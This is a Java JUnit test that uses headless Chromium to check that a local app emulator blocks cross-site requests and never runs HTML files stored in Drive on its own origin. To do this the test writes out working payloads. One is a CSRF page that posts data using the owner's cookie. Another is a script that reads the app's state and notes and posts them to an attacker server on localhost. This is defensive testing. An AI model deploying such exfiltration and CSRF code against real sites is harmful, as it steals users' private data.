package micros.data;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.WebSocket;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CompletionStage;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;

import micros.runtime.AppRuntime;
import micros.support.Apps;
import micros.support.Http;
import micros.util.Json;

/**
 * Issue 24's attack on the owner's data, in headless Chromium. The owner logs in; a page served
 * from another port of localhost (the attacker's server) then posts a Base item and an HTML file
 * to Drive with the owner's cookie, and sends the browser to that file's download URL, where
 * the HTML would read /__micros/api/state and every Base item and post them to the attacker's
 * server. Nothing may arrive there, and nothing may be created. And an HTML file already in
 * Drive (stored by the app, for instance a user's upload), opened by the owner on the app's own
 * origin, must not run either. The app's own page still reads and writes both with the
 * official JS SDK (deta 2.0.0's browser build, when npm can install it).
 */
class CrossSiteBrowserTest {
    @TempDir
    static Path dir;
    static Apps.Running app;
    static Path site;
    static DataServer data;
    static HttpServer attacker;
    static final List<String> received = new CopyOnWriteArrayList<>(); // "METHOD /path?query body" of every request the attacker's server got
    static Path chromium;

    @BeforeAll
    static void start() throws Exception {
        chromium = chromium();
        Assumptions.assumeTrue(chromium != null, "chromium is not installed (.ci/run installs it with apt-get install chromium)");
        Path root = Files.createDirectories(dir.resolve("app"));
        site = Files.createDirectories(root.resolve("site"));
        Files.writeString(root.resolve("Spacefile"), "v: 0\nmicros:\n  - name: site\n    src: site\n    engine: static\n    serve: .\n    primary: true\n");
        Files.writeString(site.resolve("index.html"), "<!doctype html><title>the app</title>\n");
        // --dev: the site is served from its folder as the tests write pages into it (outside --dev, from the stage made at start)
        app = Apps.start(root, Apps.Options.defaults().isPublic(false).dev(true));
        data = app.emulator.data();
        data.base().importItems("notes", List.of(Json.parse("{\"key\":\"secret\",\"text\":\"the owner's private note\"}")), true);
        attacker = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        attacker.createContext("/", CrossSiteBrowserTest::attackerServes);
        attacker.start();
    }

    @AfterAll
    static void stop() {
        if (attacker != null) attacker.stop(0);
        if (app != null) app.close();
    }

    private static Path chromium() {
        for (String name : List.of("chromium", "chromium-browser", "google-chrome")) {
            Path p = AppRuntime.onPath(name);
            if (p != null) return p;
        }
        return null;
    }

    private static String appUrl() {
        return "http://localhost:" + app.port();
    }

    private static String attackerUrl() {
        return "http://localhost:" + attacker.getAddress().getPort();
    }

    /** What the stored HTML does if a browser ever runs it on the app's origin: read everything, send it away. */
    private static String thief(String to) {
        return "<!doctype html><title>x</title><script>\n(async () => {\n"
                + "  const state = await (await fetch('/__micros/api/state')).text();\n"
                + "  const items = await (await fetch('/__space/v0/base/notes/query', {method: 'POST', body: '{}'})).text();\n"
                + "  await fetch('" + attackerUrl() + to + "', {method: 'POST', mode: 'no-cors', body: state + '\\n' + items});\n"
                + "  document.title = 'stolen';\n})();\n</script>\n";
    }

    private static void attackerServes(HttpExchange ex) throws IOException {
        String body = new String(ex.getRequestBody().readAllBytes(), StandardCharsets.UTF_8);
        String target = ex.getRequestURI().getRawPath() + (ex.getRequestURI().getRawQuery() == null ? "" : "?" + ex.getRequestURI().getRawQuery());
        received.add(ex.getRequestMethod() + " " + target + " " + body);
        String page = !ex.getRequestURI().getPath().equals("/attack") ? "" : "<!doctype html><title>attack</title><script>\n"
                + "const app = '" + appUrl() + "';\n"
                + "const log = (what) => fetch('/log?' + what, {method: 'POST'});\n"
                + "const post = (path, body) => fetch(app + path, {method: 'POST', mode: 'no-cors', credentials: 'include', body}).catch(() => {});\n"
                + "(async () => {\n"
                + "  await log('ran');\n"
                + "  await post('/__space/v0/base/notes/items', JSON.stringify({item: {key: 'pwned', by: 'attacker'}}));\n"
                + "  await post('/__space/v0/drive/files/files?name=x.html', new TextEncoder().encode(" + Json.quote(thief("/steal")).replace("</", "<\\/") + "));\n"
                + "  await log('sent');\n"
                + "  location = app + '/__space/v0/drive/files/files/download?name=x.html';\n"
                + "})();\n</script>\n";
        byte[] out = page.getBytes(StandardCharsets.UTF_8);
        ex.getResponseHeaders().set("Content-Type", "text/html; charset=utf-8");
        ex.sendResponseHeaders(200, out.length == 0 ? -1 : out.length);
        ex.getResponseBody().write(out);
        ex.close();
    }

    private static List<String> got(String prefix) {
        return received.stream().filter(r -> r.startsWith(prefix)).toList();
    }

    @Test
    void aPageOnAnotherPortCannotWriteOrReadTheOwnersData() throws Exception {
        try (Browser b = Browser.start(chromium, dir.resolve("attack"))) {
            b.open(appUrl() + "/__micros/api/state?space_token=" + Apps.OWNER); // the owner logs in
            assertTrue(b.text().contains("\"micros\""), "logged in: " + b.text());
            String download = appUrl() + "/__space/v0/drive/files/files/download?name=x.html";
            b.open(attackerUrl() + "/attack"); // then opens another local site's page, which sends the browser on
            b.await("the attack to end on the app's download URL", "location.href === " + Json.quote(download)
                    + " && document.readyState === 'complete' && (document.title === 'stolen' || document.scripts.length === 0)");
            assertFalse(got("POST /log?ran").isEmpty(), "the attack page ran: " + received);
            assertFalse(got("POST /log?sent").isEmpty(), "and sent its requests: " + received);
            assertEquals(List.of(), got("POST /steal "), "the attacker's server received none of the owner's data");
            // the browser landed on a refusal, so the owner's cookie went with it (else 401)
            assertTrue(b.text().contains("refused: this request came from another site's page"), b.text());
        }
        assertEquals(List.of("secret"), data.base().items("notes").stream().map(i -> ((Map<?, ?>) i).get("key")).toList(), "no Base item was created");
        assertEquals(List.of(), data.drive().store().names("files"), "no Drive file was created");
    }

    @Test
    void anHtmlFileInDriveNeverRunsOnTheAppsOrigin() throws Exception {
        byte[] html = thief("/steal-stored").getBytes(StandardCharsets.UTF_8);
        Http.Response put = Http.send(app.port(), "POST /__space/v0/drive/uploads/files?name=y.html HTTP/1.1\r\nHost: localhost\r\n" + DataClient.OWNER
                + "Content-Type: text/html\r\nContent-Length: " + html.length + "\r\nConnection: close\r\n\r\n", html);
        assertEquals(201, put.status(), put.text());
        try (Browser b = Browser.start(chromium, dir.resolve("owner"))) {
            b.open(appUrl() + "/__micros/api/state?space_token=" + Apps.OWNER);
            // the owner opens the file on the app's own origin (a link in the app's page, or typed)
            b.send("Page.navigate", "{\"url\":" + Json.quote(appUrl() + "/__space/v0/drive/uploads/files/download?name=y.html") + "}");
            b.await("a download, or the page running", "document.title === 'stolen'", () -> b.downloaded("y.html"));
            assertEquals(List.of(), got("POST /steal-stored "), "the stored HTML did not run: " + received);
            assertTrue(b.downloaded("y.html"), "the browser saved it as a file instead");
            assertEquals(new String(html, StandardCharsets.UTF_8), Files.readString(b.downloads.resolve("y.html")));
        }
    }

    @Test
    void theAppsOwnPageStillUsesBaseAndDriveThroughTheSdk() throws Exception {
        Path npm = Files.createDirectories(dir.resolve("npm"));
        Assumptions.assumeTrue(AppRuntime.onPath("npm") != null, "npm is not installed");
        Process install = new ProcessBuilder("npm", "install", "--no-audit", "--no-fund", "--no-save", "--no-package-lock", "--loglevel=error", "deta@2.0.0")
                .directory(npm.toFile()).redirectErrorStream(true).start();
        String said = new String(install.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        boolean done = install.waitFor(120, TimeUnit.SECONDS);
        if (!done) install.destroyForcibly();
        Assumptions.assumeTrue(done && install.exitValue() == 0, "npm could not install deta@2.0.0 (offline?): " + said);
        Files.copy(npm.resolve("node_modules/deta/dist/index.browser.js"), site.resolve("deta.js"));
        Files.writeString(site.resolve("sdk.html"), """
                <!doctype html><title>working</title><script type="module">
                import { Deta } from './deta.js';
                const deta = Deta(); // no key, in a page: the owner's /__space/v0/base and /__space/v0/drive
                (async () => {
                  const base = deta.Base('notes'), drive = deta.Drive('sdk');
                  await base.put({text: 'from the page'}, 'from-page');
                  const secret = await base.get('secret');
                  const found = await base.fetch({text: 'from the page'});
                  await drive.put('page.html', {data: '<b>from the page</b>', contentType: 'text/html'});
                  const html = await (await drive.get('page.html')).text();
                  document.title = 'done ' + JSON.stringify({secret: secret.text, found: found.items.map(i => i.key), html});
                })().catch((e) => { document.title = 'failed ' + e; });
                </script>
                """);
        try (Browser b = Browser.start(chromium, dir.resolve("sdk"))) {
            b.open(appUrl() + "/sdk.html?space_token=" + Apps.OWNER);
            b.await("the page's SDK calls", "document.title !== 'working'");
            Object title = b.eval("document.title");
            assertEquals("done {\"secret\":\"the owner's private note\",\"found\":[\"from-page\"],\"html\":\"<b>from the page</b>\"}", title);
        } finally {
            data.base().importItems("notes", List.of(Json.parse("{\"key\":\"secret\",\"text\":\"the owner's private note\"}")), true);
        }
    }

    /**
     * Headless Chromium driven over the DevTools protocol, one page, the way a person uses it:
     * open a URL, look at what is shown. Downloads are saved in its own folder.
     */
    static final class Browser implements AutoCloseable {
        final Process process;
        final Path downloads;
        final WebSocket socket;
        final AtomicInteger ids = new AtomicInteger();
        final Map<Integer, CompletableFuture<Map<String, Object>>> answers = new ConcurrentHashMap<>();
        final List<String> downloadsDone = new CopyOnWriteArrayList<>();

        private Browser(Process process, Path downloads, WebSocket socket) {
            this.process = process;
            this.downloads = downloads;
            this.socket = socket;
        }

        static Browser start(Path chromium, Path home) throws Exception {
            Path profile = Files.createDirectories(home.resolve("profile")), downloads = Files.createDirectories(home.resolve("downloads"));
            ProcessBuilder pb = new ProcessBuilder(chromium.toString(), "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                    "--disable-background-networking", "--disable-component-update", "--disable-sync", "--user-data-dir=" + profile,
                    "--remote-debugging-port=0", "about:blank").redirectError(ProcessBuilder.Redirect.DISCARD).redirectOutput(ProcessBuilder.Redirect.DISCARD);
            pb.environment().put("HOME", home.toString());
            Process p = pb.start();
            try {
                Path portFile = profile.resolve("DevToolsActivePort");
                long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(60);
                while (!Files.exists(portFile) || Files.readAllLines(portFile).isEmpty()) {
                    if (System.nanoTime() > deadline || !p.isAlive()) throw new AssertionError("chromium did not open its DevTools port");
                    Thread.sleep(50);
                }
                int port = Integer.parseInt(Files.readAllLines(portFile).get(0).strip());
                String list = Http.get(port, "/json/list").text();
                String ws = null;
                for (Object t : (List<?>) Json.parse(list))
                    if (t instanceof Map<?, ?> m && "page".equals(m.get("type"))) ws = (String) m.get("webSocketDebuggerUrl");
                if (ws == null) throw new AssertionError("chromium has no page: " + list);
                ws = ws.replaceFirst("^ws://[^/]+/", "ws://127.0.0.1:" + port + "/"); // where it listens, whatever "localhost" resolves to here
                Browser[] self = new Browser[1];
                StringBuilder frame = new StringBuilder();
                WebSocket socket = HttpClient.newHttpClient().newWebSocketBuilder().buildAsync(URI.create(ws), new WebSocket.Listener() {
                    @Override
                    public CompletionStage<?> onText(WebSocket w, CharSequence data, boolean last) {
                        frame.append(data);
                        if (last) {
                            self[0].message(Json.object(frame.toString()));
                            frame.setLength(0);
                        }
                        w.request(1);
                        return null;
                    }
                }).get(30, TimeUnit.SECONDS);
                Browser b = self[0] = new Browser(p, downloads, socket);
                b.send("Page.enable", "{}");
                b.send("Browser.setDownloadBehavior", "{\"behavior\":\"allow\",\"downloadPath\":" + Json.quote(downloads.toString()) + ",\"eventsEnabled\":true}");
                return b;
            } catch (Exception | AssertionError e) {
                p.descendants().forEach(ProcessHandle::destroyForcibly);
                p.destroyForcibly();
                throw e;
            }
        }

        private void message(Map<String, Object> m) {
            if (m.get("id") instanceof Number id) {
                CompletableFuture<Map<String, Object>> f = answers.remove(id.intValue());
                if (f != null) f.complete(m);
            } else if ("Browser.downloadProgress".equals(m.get("method")) && m.get("params") instanceof Map<?, ?> params && "completed".equals(params.get("state"))) {
                downloadsDone.add(String.valueOf(params.get("guid")));
            }
        }

        /** One DevTools command; its result. */
        @SuppressWarnings("unchecked")
        Map<String, Object> send(String method, String params) throws Exception {
            int id = ids.incrementAndGet();
            CompletableFuture<Map<String, Object>> answer = new CompletableFuture<>();
            answers.put(id, answer);
            socket.sendText("{\"id\":" + id + ",\"method\":" + Json.quote(method) + ",\"params\":" + params + "}", true).get(30, TimeUnit.SECONDS);
            Map<String, Object> m = answer.get(60, TimeUnit.SECONDS);
            if (m.get("error") != null) throw new AssertionError(method + ": " + m.get("error"));
            return (Map<String, Object>) m.get("result");
        }

        /** The value of a JavaScript expression in the page. */
        @SuppressWarnings("unchecked")
        Object eval(String expression) throws Exception {
            Map<String, Object> r = send("Runtime.evaluate", "{\"expression\":" + Json.quote(expression) + ",\"returnByValue\":true}");
            return ((Map<String, Object>) r.get("result")).get("value");
        }

        String text() throws Exception {
            return String.valueOf(eval("document.body ? document.body.innerText : ''"));
        }

        /** Opens a URL and waits until the page it leads to has loaded. */
        void open(String url) throws Exception {
            send("Page.navigate", "{\"url\":" + Json.quote(url) + "}");
            await("the page to load", "document.readyState === 'complete' && location.href !== 'about:blank'");
        }

        void await(String what, String condition) throws Exception {
            await(what, condition, () -> false);
        }

        /** Waits until the expression is true in the page (or {@code or} holds); a bound, not a measurement: the checks follow. */
        void await(String what, String condition, java.util.function.BooleanSupplier or) throws Exception {
            long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(60);
            while (!or.getAsBoolean() && !holds(condition)) {
                if (System.nanoTime() > deadline) throw new AssertionError("waited 60 s for " + what + "; the page shows: " + text() + "; the attacker got " + received);
                Thread.sleep(50);
            }
        }

        private boolean holds(String condition) throws Exception {
            try {
                return Boolean.TRUE.equals(eval(condition));
            } catch (AssertionError e) { // the page went away while asked: it is navigating
                return false;
            }
        }

        boolean downloaded(String name) {
            return !downloadsDone.isEmpty() && Files.exists(downloads.resolve(name));
        }

        @Override
        public void close() {
            socket.abort();
            process.descendants().forEach(ProcessHandle::destroyForcibly);
            process.destroyForcibly();
        }
    }
}
